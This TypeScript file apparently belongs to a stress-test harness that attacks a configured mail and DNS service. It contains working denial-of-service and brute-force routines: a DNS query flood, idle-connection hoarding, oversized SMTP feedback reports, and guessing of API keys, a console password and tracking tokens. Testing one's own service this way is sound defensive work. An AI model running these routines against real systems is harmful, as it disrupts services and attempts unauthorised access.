import { createSocket } from "node:dgram";
import { connect, type Socket } from "node:net";
import * as dnsPacket from "dns-packet";
import { call } from "./http-call.ts";
import { repeat, sourceAddress, type Tally, type Target } from "./target.ts";

const NETWORK = 13;
/** Datagrams a second, of which each is a name that does not exist. */
const QUERIES_PER_SECOND = 2_000;
const REPORT_OCTETS = 40_000_000;

interface Run {
  readonly tally: Tally;
  readonly until: number;
}

/** What people without any key do at each listener. */
export function attackAsStranger(target: Target, run: Run): Promise<void>[] {
  return [
    floodDns(target, run),
    ...range(4).map((client) => hoard(run, "DNS over TCP, idle", target.dns, 100 + client)),
    ...range(4).map((client) => hoard(run, "MX, idle", target.mx, 200 + client)),
    ...range(4).map((client) => hoard(run, "submission, idle", target.submission, 300 + client)),
    ...range(4).map((client) => hoard(run, "DNS API, a head that never ends", hostPort(target.dnsApi), 400 + client)),
    ...range(3).map((client) => sendReports(target, run, { client: 500 + client, octets: REPORT_OCTETS })),
    ...range(3).map((client) => sendReports(target, run, { client: 510 + client, octets: 3_000 })),
    ...range(4).map((client) => guessKeys(target, run, 600 + client)),
    repeat(run, "tracking token", async (turn) => {
      const url = `${target.tracking}/c/${Buffer.from(`guess ${turn}`).toString("base64url")}`;
      return (await call({ method: "GET", url, from: sourceAddress(NETWORK, 700) })).status;
    }),
    repeat(run, "console password", async (turn) => {
      const authorization = `Basic ${Buffer.from(`operator:guess${turn}`).toString("base64")}`;
      const url = `${target.console}/admin/v1/instances`;
      const from = sourceAddress(NETWORK, 710 + (turn % 20));
      return (await call({ method: "GET", url, headers: { Authorization: authorization }, from })).status;
    }),
  ];
}

/** Names that do not exist, at an even pace, from many addresses. */
async function floodDns({ dns }: Target, { tally, until }: Run): Promise<void> {
  const [host, port] = dns.split(":") as [string, string];
  const sockets = range(20).map((client) => {
    const socket = createSocket("udp4");
    socket.bind(0, sourceAddress(NETWORK, client + 1));
    socket.on("message", (answer) => tally.add("DNS query", `rcode ${answer[3]! & 0x0f}`));
    socket.on("error", () => {});
    return socket;
  });
  const perTurn = QUERIES_PER_SECOND / 100;
  for (let turn = 0; Date.now() < until; turn += 1) {
    for (let index = 0; index < perTurn; index += 1) {
      const name = `${"r.".repeat(50)}q${turn}x${index}.quiet.test`;
      const query = dnsPacket.encode({ type: "query", id: index, questions: [{ name, type: "TXT" }] });
      sockets[index % sockets.length]!.send(query, Number(port), host);
    }
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  for (const socket of sockets) socket.close();
}

/** As many connections as one gets, each of which says a little and then nothing more. */
async function hoard(run: Run, attack: string, address: string, client: number): Promise<void> {
  const [host, port] = address.split(":") as [string, string];
  const open = new Set<Socket>();
  await repeat(run, attack, async (turn) => {
    if (open.size >= CONNECTIONS_EACH) return new Promise((resolve) => setTimeout(resolve, 100, "holding"));
    const socket = connect({ host, port: Number(port), localAddress: sourceAddress(NETWORK, client) });
    open.add(socket);
    socket.on("close", () => open.delete(socket));
    socket.on("error", () => {});
    socket.resume();
    socket.write(turn % 2 === 0 ? "GET /" : Buffer.from([0, 200]));
    return new Promise((resolve) =>
      socket.once("connect", () => resolve("open")).once("close", () => resolve("closed")),
    );
  });
  for (const socket of open) socket.destroy();
}

const CONNECTIONS_EACH = 300;

/** Reports to the feedback address, of any size, again and again. */
function sendReports(
  { mx, feedbackAddress }: Target,
  run: Run,
  { client, octets }: { client: number; octets: number },
) {
  return repeat(run, `report of ${octets} octets`, async () => {
    const session = await SmtpSession.open(mx, sourceAddress(NETWORK, client));
    try {
      for (const line of ["EHLO attack.test", "MAIL FROM:<>", `RCPT TO:<${feedbackAddress}>`, "DATA"]) {
        const code = await session.command(line);
        if (code >= 400) return code;
      }
      return await session.data(octets);
    } finally {
      session.close();
    }
  });
}

/** Enough of a client to be a nuisance. */
class SmtpSession {
  readonly #socket: Socket;
  #text = "";
  #waiting: { readonly resolve: (code: number) => void; readonly reject: (error: Error) => void } | undefined;

  private constructor(socket: Socket) {
    this.#socket = socket;
    const fail = () => this.#waiting?.reject(Object.assign(new Error(), { code: "hung up" }));
    socket.on("data", (chunk) => this.#take(chunk.toString("latin1")));
    socket.on("error", fail).on("close", fail);
    socket.setTimeout(60_000, () => socket.destroy());
  }

  static async open(address: string, from: string): Promise<SmtpSession> {
    const [host, port] = address.split(":") as [string, string];
    const session = new SmtpSession(connect({ host, port: Number(port), localAddress: from }));
    await session.#reply();
    return session;
  }

  command(line: string): Promise<number> {
    this.#socket.write(`${line}\r\n`);
    return this.#reply();
  }

  /** A message of so many octets, sent as fast as it is taken; @returns the reply, which may come before the end */
  async data(octets: number): Promise<number> {
    const reply = this.#reply();
    let code: number | undefined;
    const note = (said: number) => {
      code = said;
    };
    reply.then(note, () => note(0));
    const line = Buffer.alloc(65_536, `${"r".repeat(70)}\r\n`);
    this.#socket.write(
      "Subject: complaint\r\nContent-Type: multipart/report; report-type=feedback-report; boundary=b\r\n\r\n",
    );
    for (let sent = 0; sent < octets && code === undefined; sent += line.length) {
      const piece = line.subarray(0, Math.min(line.length, octets - sent));
      if (!this.#socket.write(piece)) await new Promise((resolve) => setTimeout(resolve, 5));
    }
    if (code === undefined) this.#socket.write("\r\n.\r\n");
    return reply;
  }

  close(): void {
    this.#waiting = undefined;
    this.#socket.destroy();
  }

  #reply(): Promise<number> {
    return new Promise((resolve, reject) => {
      this.#waiting = { resolve, reject };
      this.#take("");
    });
  }

  #take(text: string): void {
    this.#text += text;
    const last = /^(?:\d{3}-.*\r\n)*(\d{3})(?: .*)?\r\n/.exec(this.#text);
    if (!last || !this.#waiting) return;
    this.#text = this.#text.slice(last[0].length);
    const { resolve } = this.#waiting;
    this.#waiting = undefined;
    resolve(Number(last[1]));
  }
}

function guessKeys({ dnsApi, mailApi, company }: Target, run: Run, client: number): Promise<void> {
  return repeat(run, "API key", async (turn) => {
    const headers = { Authorization: `guess-${turn}-of-a-key`, Reseller: company.resellerId };
    const url = turn % 2 === 0 ? `${dnsApi}/api/v1/domain_list` : `${mailApi}/v1/version`;
    return (await call({ method: "GET", url, headers, from: sourceAddress(NETWORK, client) })).status;
  });
}

function hostPort(url: string): string {
  return new URL(url).host;
}

function range(count: number): number[] {
  return Array.from({ length: count }, (_, index) => index);
}
